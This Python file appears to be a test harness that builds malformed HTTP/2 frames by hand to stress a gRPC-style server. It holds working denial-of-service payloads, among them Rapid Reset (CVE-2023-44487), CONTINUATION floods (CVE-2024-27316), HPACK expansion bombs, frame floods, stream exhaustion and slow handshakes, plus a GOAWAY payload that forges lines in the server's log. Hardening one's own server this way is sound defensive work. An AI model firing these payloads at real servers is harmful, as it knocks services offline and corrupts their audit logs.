"""Frames of HTTP/2 that no client may send, written by hand: a library for HTTP/2 refuses to send them."""

from __future__ import annotations

import asyncio
import contextlib
import random
import struct
from collections.abc import Awaitable, Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PATIENCE = 5.0
"""Seconds for one abuse. A server that closes the connection ends it sooner."""
FORGED = "forged"
"""The event of a line that a caller tries to write into the server's log."""
PATH = "/grpc.health.v1.Health/Check"


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """Return a frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str, *, indexed: bool = False) -> bytes:
    """Return a header in HPACK, without compression. An indexed one enters the table of the server."""
    head = b"\x40" if indexed else b"\x00"
    return head + b"".join(_length(len(text)) + text for text in (name.encode(), value.encode()))


def request_headers(path: str = PATH) -> bytes:
    """Return the headers of a call."""
    pairs = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
    return b"".join(literal(*pair) for pair in pairs)


def _length(size: int) -> bytes:
    if size < 0x7F:
        return bytes([size])
    rest, encoded = size - 0x7F, bytearray([0x7F])
    while rest > 0x7F:
        encoded.append(rest & 0x7F | 0x80)
        rest >>= 7
    return bytes([*encoded, rest])


class Abuser:
    """Connections that send raw bytes until the server closes them, and read whatever comes.

    Attributes:
        sent: how many frames were sent. The opening of a connection counts as one.
    """

    def __init__(self, host: str, port: int) -> None:
        self._host = host
        self._port = port
        self.sent = 0

    async def send(self, *parts: bytes, hold: float = 0.0, frames_each: int = 1) -> None:
        """Open a connection, send the parts, keep it open for some seconds, and close it.

        Each part has so many frames.
        """
        reader, writer = await asyncio.open_connection(self._host, self._port)
        drop = asyncio.ensure_future(_drop(reader))
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(PATIENCE):
                for part in parts:
                    writer.write(part)
                    await writer.drain()
                    self.sent += frames_each
                if hold:
                    await asyncio.wait([drop], timeout=hold)
        writer.transport.abort()
        drop.cancel()
        await asyncio.wait([drop])


async def _drop(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65_536):
            pass


Abuse = Callable[[Abuser, random.Random, int], Awaitable[None]]
OPENING = PREFACE + frame(SETTINGS)


async def rapid_resets(abuser: Abuser, _rng: random.Random, scale: int) -> None:
    """Open calls and cancel each at once (CVE-2023-44487)."""
    headers = request_headers()
    pairs = (
        frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 2_000 * scale, 2)
    )
    await abuser.send(OPENING, *pairs)


async def continuations(abuser: Abuser, _rng: random.Random, scale: int) -> None:
    """Headers without an end (CVE-2024-27316)."""
    part = literal("x", "y" * 16_000)
    await abuser.send(
        OPENING,
        frame(HEADERS, 0, 1, request_headers()),
        *(frame(CONTINUATION, 0, 1, part) for _ in range(200 * scale)),
        hold=0.1,
    )


async def large_tables(abuser: Abuser, _rng: random.Random, scale: int) -> None:
    """A header that enters the server's table, and references to it that unfold to megabytes."""
    first = request_headers() + literal("x", "y" * 3_000, indexed=True)
    bomb = request_headers() + b"\xbe" * 10_000
    streams = range(3, 3 + 4 * scale, 2)
    await abuser.send(
        OPENING,
        frame(HEADERS, END_HEADERS | END_STREAM, 1, first),
        *(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb) for stream in streams),
        hold=0.1,
    )


async def windows(abuser: Abuser, rng: random.Random, _scale: int) -> None:
    """Windows of nothing, beyond the greatest, and negative ones by a later setting."""
    headers = frame(HEADERS, END_HEADERS, 1, request_headers())
    for payload in (
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)),
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2,
        headers + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 2**31 - 1)) * 2,
        frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**32 - 1)),
        headers + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(DATA, END_STREAM, 1, bytes(5)),
        frame(SETTINGS, 0, 0, struct.pack(">HI", 5, rng.choice((0, 1, 2**24)))),
        frame(DATA, 0, 7, b"x" * 1_000),
    ):
        await abuser.send(OPENING, payload, hold=0.02)


async def floods(abuser: Abuser, rng: random.Random, scale: int) -> None:
    """Very many settings, pings, priorities and empty frames, which all cost an answer or a look."""
    for one in (
        frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)),
        frame(PING, 0, 0, rng.randbytes(8)),
        frame(PRIORITY, 0, 3, struct.pack(">IB", 3, 255)),
        frame(HEADERS, END_HEADERS, 1, request_headers()) + frame(DATA, 0, 1),
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
        frame(99, 255, 0, b"?"),
    ):
        await abuser.send(OPENING, *([one * 100] * 20 * scale), frames_each=100)


async def many_streams(abuser: Abuser, _rng: random.Random, scale: int) -> None:
    """Calls that are begun and never ended."""
    headers = request_headers("/hutong.results.v1.UploadService/UploadResults")
    opened = (frame(HEADERS, END_HEADERS, stream, headers) for stream in range(1, 1_000 * scale, 2))
    await abuser.send(OPENING, *opened, hold=0.1)


async def slow_starts(abuser: Abuser, rng: random.Random, scale: int) -> None:
    """Connections that begin a handshake and do not go on."""
    parts = [PREFACE[: rng.randrange(len(PREFACE))] for _ in range(50 * scale)]
    await asyncio.gather(*(abuser.send(part, hold=0.2) for part in parts))


async def nonsense(abuser: Abuser, rng: random.Random, scale: int) -> None:
    """Frames with random kinds, flags, streams and lengths, valid messages in bad frames, and no HTTP/2 at all."""
    for _ in range(20 * scale):
        parts = []
        for _ in range(rng.randrange(1, 20)):
            payload = rng.choice((b"", rng.randbytes(rng.randrange(200)), request_headers(), bytes(20_000)))
            parts.append(frame(rng.randrange(12), rng.randrange(256), rng.choice((0, 1, 2, 3, 2**31 - 1)), payload))
        await abuser.send(rng.choice((OPENING, PREFACE, b"", b"GET / HTTP/1.1\r\n\r\n")), *parts, hold=0.005)
    call = frame(HEADERS, END_HEADERS, 1, request_headers())
    for body in (b"\0\xff\xff\xff\xff", b"\x01\0\0\0\x01x", b"\x07\0\0\0\0", b"\0\0\0\0\x05ab", b"\0" * 16_384):
        await abuser.send(OPENING, call, frame(DATA, END_STREAM, 1, body), hold=0.02)


async def forged_lines(abuser: Abuser, _rng: random.Random, scale: int) -> None:
    """Texts for the server's log, in a frame that ends the connection."""
    text = f'\n{{"event":"{FORGED}","level":"error"}}\n'.encode()
    for _ in range(scale):
        await abuser.send(OPENING, frame(GOAWAY, 0, 0, struct.pack(">II", 0, 9) + text), hold=0.02)


ABUSES: tuple[Abuse, ...] = (
    forged_lines,
    rapid_resets,
    continuations,
    large_tables,
    windows,
    floods,
    many_streams,
    slow_starts,
    nonsense,
)
